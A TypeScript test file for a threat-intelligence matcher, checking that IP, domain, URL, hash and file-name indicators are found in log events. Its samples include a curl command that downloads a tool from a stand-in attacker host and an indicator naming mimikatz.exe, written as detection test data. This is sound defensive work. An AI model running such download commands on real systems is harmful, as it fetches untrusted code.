/** Which values of an event are matched against indicators, and how. */
import test from 'ava';
import type { IndicatorType } from '../../schemas/resources/threat-intel.ts';
import { EventPaths, SigmaEvent } from '../../subjects/detections/event.ts';
import { fieldTables } from '../../subjects/detections/fields/index.ts';
import { fillEvent } from '../../subjects/detections/record-event.ts';
import { encodeBlock } from '../../subjects/threat-intel/block.ts';
import { normalizeValue } from '../../subjects/threat-intel/indicator.ts';
import { IndicatorIndex } from '../../subjects/threat-intel/indicator-index.ts';
import { matchEvent } from '../../subjects/threat-intel/match.ts';

const paths = new EventPaths(fieldTables);
const sha256 = 'ab12'.repeat(16);
const md5 = 'cd34'.repeat(8);

const indicators: readonly [IndicatorType, string][] = [
  ['ip', '203.0.113.7'],
  ['ip', '2001:db8::7'],
  ['network', '198.51.100.0/24'],
  ['network', '2001:db8:5::/48'],
  ['network', '192.0.2.128/25'],
  ['domain', 'evil.example'],
  ['domain', 'bücher.example'],
  ['url', 'https://shop.example/a/b?c=d'],
  ['url', 'http://files.example/tool.exe'],
  ['email', 'ann@mail.example'],
  ['sha256', sha256],
  ['md5', md5],
  ['file-name', 'mimikatz.exe'],
];
const index = new IndicatorIndex();
index.add(
  'all',
  encodeBlock(
    indicators.map(([type, value]) => ({
      type,
      value: normalizeValue(type, value) ?? '',
      source: 'test',
      confidence: 50,
      validFrom: null,
      validUntil: null,
      isRevoked: false,
      seenAt: '2026-01-01T00:00:00Z',
      halfLifeDays: null,
      raisesSignals: false,
    })),
  ),
);

const findMatches = (body: unknown, attributes: Readonly<Record<string, unknown>> = {}): string[] => {
  const event = fillEvent(new SigmaEvent(paths), { body, attributes: Object.entries(attributes), resource: [] });
  return matchEvent(index, event).map(({ indicator, field }) => `${field}: ${indicator.value}`);
};

const cases: readonly [
  what: string,
  body: unknown,
  attributes: Readonly<Record<string, unknown>>,
  expected: string[],
][] = [
  ['an address in an attribute', '', { 'client.address': '203.0.113.7' }, ['client.address: 203.0.113.7']],
  ['an address with a port', '', { 'network.peer.address': '203.0.113.7:443' }, ['network.peer.address: 203.0.113.7']],
  ['one of several addresses', '', { 'x-forwarded-for': '10.0.0.1, 203.0.113.7' }, ['x-forwarded-for: 203.0.113.7']],
  ['IPv6 in any notation', '', { 'source.ip': '2001:DB8:0:0::7' }, ['source.ip: 2001:db8::7']],
  ['IPv4 in IPv6', '', { 'source.ip': '::ffff:203.0.113.7' }, ['source.ip: 203.0.113.7']],
  ['an address in a network', '', { src_ip: '198.51.100.200' }, ['src_ip: 198.51.100.0/24']],
  ['the upper half of a network', '', { src_ip: '192.0.2.129' }, ['src_ip: 192.0.2.128/25']],
  ['not its other half', '', { src_ip: '192.0.2.127' }, []],
  ['an address in an IPv6 network', '', { src_ip: '2001:db8:5:1::9' }, ['src_ip: 2001:db8:5::/48']],
  ['an address in a field that contains no addresses', '', { version: '203.0.113.7' }, []],
  ['a domain', '', { 'dns.question.name': 'EVIL.example.' }, ['dns.question.name: evil.example']],
  ['a subdomain', '', { 'url.domain': 'a.b.evil.example' }, ['url.domain: evil.example']],
  ['not a name that only shares the suffix', '', { 'url.domain': 'notevil.example' }, []],
  ['not a parent domain', '', { 'url.domain': 'example' }, []],
  ['an internationalized domain', '', { 'url.domain': 'www.bücher.example' }, ['url.domain: xn--bcher-kva.example']],
  ['a URL', '', { 'url.full': 'HTTPS://Shop.example/a/b?c=d#e' }, ['url.full: https://shop.example/a/b?c=d']],
  [
    'a URL with a query string that the indicator lacks',
    '',
    { 'url.full': 'http://files.example/tool.exe?x=1' },
    ['url.full: http://files.example/tool.exe'],
  ],
  ['not another path', '', { 'url.full': 'https://shop.example/a' }, []],
  ['a URL host', '', { 'url.full': 'https://ann@www.evil.example:8443/x' }, ['url.full: evil.example']],
  ['a mail address', '', { 'email.from.address': 'Ann <ANN@mail.example>' }, ['email.from.address: ann@mail.example']],
  ['the domain of a mail address', '', { sender: 'bob@evil.example' }, ['sender: evil.example']],
  ['a hash', '', { 'file.hash.sha256': sha256.toUpperCase() }, [`file.hash.sha256: ${sha256}`]],
  [
    "Sysmon's hashes",
    { EventID: 1, Hashes: `SHA1=${'0'.repeat(40)},SHA256=${sha256},IMPHASH=${md5}` },
    {},
    [`Hashes: ${sha256}`],
  ],
  ['a file name', { Image: 'C:\\Temp\\Mimikatz.EXE' }, {}, ['Image: mimikatz.exe']],
  [
    'nested JSON',
    { winlog: { event_data: { DestinationIp: '203.0.113.7' } } },
    {},
    ['winlog.event_data.DestinationIp: 203.0.113.7'],
  ],
  ['text', 'Failed password for root from 203.0.113.7 port 22 ssh2', {}, ['body: 203.0.113.7']],
  [
    'text with quotes, parentheses and punctuation',
    'GET "http://files.example/tool.exe", (see evil.example).',
    {},
    ['body: http://files.example/tool.exe', 'body: evil.example'],
  ],
  [
    'text with a port',
    'dial tcp 203.0.113.7:443: refused; via [2001:db8::7]:80',
    {},
    ['body: 203.0.113.7', 'body: 2001:db8::7'],
  ],
  ['text with a hash', `quarantined ${md5}`, {}, [`body: ${md5}`]],
  ['key=value text', 'src_ip=203.0.113.7 user=ann@mail.example', {}, ['src_ip: 203.0.113.7', 'body: ann@mail.example']],
  [
    'a command line',
    { CommandLine: 'curl -o x hxxp://files.example/tool.exe https://evil.example/x' },
    {},
    ['CommandLine: http://files.example/tool.exe', 'CommandLine: evil.example'],
  ],
  ['nothing', 'all is well at 10.0.0.1, version 1.2.3.4.5', { service: 'evil.example' }, []],
];
for (const [title, body, attributes, expected] of cases)
  test(`found in an event: ${title}`, (t) => {
    t.deepEqual(findMatches(body, attributes), expected);
  });

test('texts crafted to be slow are scanned quickly', (t) => {
  for (const text of [
    'a.'.repeat(200_000),
    ':'.repeat(200_000),
    '@a'.repeat(100_000),
    'http://'.repeat(50_000),
    '::1 '.repeat(100_000),
  ])
    t.deepEqual(findMatches(text, { 'url.full': text, 'source.ip': text, sender: text, Hashes: text }), []);
});
